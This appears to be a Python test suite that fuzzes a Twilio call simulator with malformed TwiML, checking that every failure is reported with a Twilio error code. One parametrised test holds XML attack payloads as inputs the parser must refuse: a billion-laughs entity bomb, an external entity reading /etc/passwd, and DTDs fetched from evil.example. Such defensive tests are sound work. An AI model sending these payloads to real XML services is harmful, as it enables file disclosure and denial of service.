"""Whatever an application answers, the simulator runs it or says what Twilio would say: it never fails itself."""

from __future__ import annotations

import re
from encodings.aliases import aliases
from functools import partial
from random import Random
from typing import TYPE_CHECKING, Any
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from twilio.twiml.voice_response import Dial, VoiceResponse

from dialer.simulator import Params, WebAnswer
from dialer.simulator.addresses import resolve
from dialer.simulator.documents import MAX_BYTES, XML_TYPES, DocumentError, parse, parse_tree, read_answer
from dialer.simulator.lint import ATTRIBUTES, lint
from dialer.simulator.model import TwilioError

if TYPE_CHECKING:
    from tests.simulator.conftest import Play, Story

XML = {"Content-Type": "text/xml"}
#: What Twilio has codes for: documents and HTTP (11xxx), TwiML (12xxx to 16xxx), REST and people (20xxx, 21xxx, 3xxxx).
CODES = range(11_000, 40_000)
many = settings(
    deadline=None, max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)

ODD = ["", " ", "0", "-1", "9" * 9, "9" * 40, "1e9", "TRUE", "yes", "get", "PUT", "true false", "\u0661", "é"]
ODD += ["\u202e", "\t", "http://[", "http://[::1", "//x", "http://a b/", "http://x:99999/", "/next", "?"]
ODD += ["javascript:1", "x" * 400, "room", "#rc=99&ct=x&rp=,", "https://app.example/join", "#"]
ODD += ["start end join", "+14155550101", "+1", "client:alice"]
names = st.sampled_from([*ATTRIBUTES, "Response", "Enqueue", "Sms", "say", "a:b", "_", "Stop"])
known_attributes = sorted({name for known in ATTRIBUTES.values() for name in known})
attribute = st.sampled_from([*known_attributes, "x", "xmlns", "xml:lang"])
character = st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"], exclude_characters="\ufffe\uffff")
value = st.sampled_from(ODD) | st.text(character, max_size=30)


def written(name: str, attributes: dict[str, str], content: str) -> str:
    return f"<{name}{''.join(f' {key}={quoteattr(text)}' for key, text in attributes.items())}>{content}</{name}>"


leaf = st.builds(written, names, st.dictionaries(attribute, value, max_size=4), value.map(escape))
tree = st.recursive(
    leaf,
    lambda inner: st.builds(
        written, names, st.dictionaries(attribute, value, max_size=4), st.lists(inner | leaf, max_size=4).map("".join)
    ),
    max_leaves=12,
)
document = st.lists(tree, max_size=5).map(lambda parts: f"<Response>{''.join(parts)}</Response>")


def ours() -> bytes:
    """A document with a bit of everything, as the SDK writes it."""
    response = VoiceResponse()
    response.say("Hello & welcome", loop=2)
    gather = response.gather(num_digits=1, action="/keys", timeout=1)
    gather.play("https://app.example/a.mp3")
    dial = Dial(action="/after", time_limit=60, record="record-from-answer", recording_status_callback="/rec")
    dial.conference("room", participant_label="agent", status_callback="/c#rc=5&rp=all", wait_url="")
    response.append(dial)
    second = Dial(caller_id="+14155550199", timeout=5)
    second.number("+14155550103", status_callback="/s", send_digits="w1")
    second.client("alice")
    response.append(second)
    response.record(max_length=2, action="/next")
    response.redirect("/next", method="GET")
    return str(response).encode()


def mutated(seed: int) -> bytes:
    """That document with some of it changed, lost, doubled or moved: its values if the seed is even, else its bytes."""
    random, body = Random(seed), bytearray(ours())
    if seed % 2 == 0:
        return re.sub(r'(?<==)"[^"]*"|(?<=>)[^<]+(?=<)', partial(changed, random), ours().decode()).encode()
    for _ in range(random.randrange(1, 6)):
        at, length = random.randrange(len(body)), random.randrange(1, 40)
        piece = body[at : at + length]
        match random.randrange(6):
            case 0:
                body[at] ^= 1 << random.randrange(8)
            case 1:
                del body[at : at + length]
            case 2:
                body[at:at] = piece * random.randrange(1, 5)
            case 3:
                body[at:at] = random.choice([b"<", b">", b"&", b'"', b"<!--", b"<![CDATA[", b"]]>", b"<?x?>", b"\x00"])
            case 4:
                body[at : at + length] = random.choice(ODD).encode()
            case _:
                other = random.randrange(len(body))
                body[other:other] = piece
    return bytes(body)


def changed(random: Random, found: re.Match[str]) -> str:
    """Another attribute or text in place of one in five."""
    if random.random() < 0.8:
        return found[0]
    return quoteattr(random.choice(ODD)) if found[0][0] == '"' else escape(random.choice(ODD))


def read(body: bytes, headers: dict[str, str] = XML) -> bool:
    """Whether it can be run; when not, with an error that Twilio has."""
    try:
        verbs = read_answer(headers, body)
    except DocumentError as error:
        assert error.code in CODES
        assert error.message
        return False
    assert all(finding.code in CODES and finding.message for finding in lint(verbs))
    return True


def ran(story: Story, body: bytes, content_type: str = "text/xml") -> None:
    """Run it on a leg: the call ends, or goes on, as at Twilio's; and all that is told has a code of Twilio's."""
    story.pages["/join"] = WebAnswer(200, {"Content-Type": content_type}, body)
    call = story.call()
    story.run(20.0)
    alerts = list(story.account.alerts)
    assert all(alert.code in CODES and alert.message for alert in alerts)
    failed = [entry for entry in story.network.log if entry.kind == "application-error" and entry.call_sid == call.sid]
    assert not failed or alerts
    if not read(body, {"Content-Type": content_type}):
        assert failed
    if call.end_time is None:
        story.network.update_call(call, Params({"Status": "completed"}))
    story.run(700.0)
    assert call.end_time is not None


@many
@given(document)
def test_any_tree_is_read(body: str) -> None:
    assert read(body.encode())


def test_documents_with_mistakes_are_read_or_refused() -> None:
    could_be_run = [read(mutated(seed)) for seed in range(3_000)]
    assert 300 < sum(could_be_run) < 2_700


def test_legs_run_documents_with_mistakes_or_fail_as_at_twilio(play: Play) -> None:
    for seed in range(150):
        ran(play(next="<Response><Pause/></Response>"), mutated(seed))


@settings(many, max_examples=40)
@given(
    body=document | st.integers(0, 2**32).map(mutated) | st.binary(max_size=100),
    kind=st.sampled_from(sorted(XML_TYPES)),
)
def test_a_leg_runs_it_or_fails_as_at_twilio(play: Play, body: str | bytes, kind: str) -> None:
    ran(play(next=f"<Response>{'<Pause/>' * 3}</Response>"), body.encode() if isinstance(body, str) else body, kind)


@many
@given(
    headers=st.dictionaries(st.sampled_from(["Content-Type", "content-type", "X"]), st.text(max_size=40), max_size=2),
    body=st.binary(max_size=60),
)
def test_any_headers_are_read(headers: dict[str, str], body: bytes) -> None:
    read(body, headers)


BILLION_LAUGHS = "<!DOCTYPE r [<!ENTITY a0 'ha'>{}]><Response><Say>&a9;</Say></Response>".format(
    "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(9))
)


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        "<!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><Response><Say>&a;</Say></Response>",
        "<!DOCTYPE r SYSTEM 'https://evil.example/x.dtd'><Response/>",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM 'https://evil.example/x'>%p;]><Response/>",
        "<Response><Say>&nosuch;</Say></Response>",
        "<Response><Say>&#0;&#xD800;&#x110000;</Say></Response>",
    ],
)
def test_entities_are_refused_unread(play: Play, body: str) -> None:
    with pytest.raises(DocumentError) as caught:
        parse(body)
    assert caught.value.code == 12100
    ran(play(), body.encode())


def deep(name: str) -> bytes:
    levels = (MAX_BYTES - 40) // (2 * len(name) + 5)
    return f"<Response>{f'<{name}>' * levels}{f'</{name}>' * levels}</Response>".encode()


def wide(part: str) -> bytes:
    return f"<Response>{part * ((MAX_BYTES - 40) // len(part.encode()))}</Response>".encode()


@pytest.mark.parametrize("name", ["a", "Say", "Gather", "Dial", "Response", "Client"])
def test_a_document_may_be_deep(play: Play, name: str) -> None:
    ran(play(), deep(name))


@pytest.mark.parametrize(
    "part",
    [
        "<a/>",
        "<Dial/>",
        "<Dial><Conference/></Dial>",
        "<Dial><Number>1</Number></Dial>",
        "<Gather timeout='0'/>",
        "<Pause length='0'/>",
        "<Record maxLength='0'/>",
        "<Play digits=''/>",
        "<Redirect>http://[</Redirect>",
        "<!-- -->",
        "&amp;",
    ],
)
def test_a_document_may_be_wide(play: Play, part: str) -> None:
    ran(play(), wide(part))


@pytest.mark.parametrize("value", ["x" * 60_000, "&lt;" * 15_000, "9" * 60_000, "a " * 30_000])
@pytest.mark.parametrize(
    "place", ["<Say loop='{}'/>", "<Dial action='{}'/>", "<Dial><Conference>{}</Conference></Dial>"]
)
def test_an_attribute_may_be_huge(play: Play, place: str, value: str) -> None:
    ran(play(), f"<Response>{place.format(value)}</Response>".encode())


def test_an_element_may_have_thousands_of_attributes(play: Play) -> None:
    ran(play(), ("<Response><Say" + "".join(f" a{n}=''" for n in range(5_000)) + ">x</Say></Response>").encode())


@pytest.mark.parametrize("encoding", sorted({*aliases.values(), "none", "UTF-8", "", "é", "x" * 500}))
def test_any_encoding_may_be_declared(encoding: str) -> None:
    body = f"<?xml version='1.0' encoding='{encoding}'?><Response><Say>é</Say></Response>"
    read(body.encode())
    read(body.encode("utf-16"))


@pytest.mark.parametrize(
    "url", ["http://[", "http://[::1", "http://x:99999/", "http://x:y/", "//[", "http://\u2100/", "\x00", "http://"]
)
def test_an_address_that_is_none_is_an_error_of_the_document(play: Play, url: str) -> None:
    for base in (None, "https://app.example/join"):
        assert isinstance(resolve(base, url), str)
    if url.isprintable():
        waits = "<Dial><Conference waitUrl='{}'>room</Conference></Dial>"
        for verb in ("<Redirect>{}</Redirect>", "<Dial action='{}'/>", waits):
            ran(play(), f"<Response>{verb.format(url)}</Response>".encode())


@many
@given(body=document | st.integers(0, 2**32).map(lambda seed: mutated(seed).decode("latin-1")) | st.text(max_size=50))
def test_twiml_given_over_rest_is_taken_or_refused_with_a_code(play: Play, body: str) -> None:
    story = play()
    wanted: dict[str, Any] = {"To": "+14155550101", "From": "+14155550199", "Twiml": body}
    try:
        story.network.create_call(story.account.sid, Params(wanted))
    except TwilioError as error:
        assert error.code in CODES
    story.run(5.0)


def test_what_was_read_is_kept_within_bounds() -> None:
    for number in range(2_000):
        parse(f"<Response><Pause length='{number}'/></Response>")
    assert parse_tree.cache_info().currsize <= 512
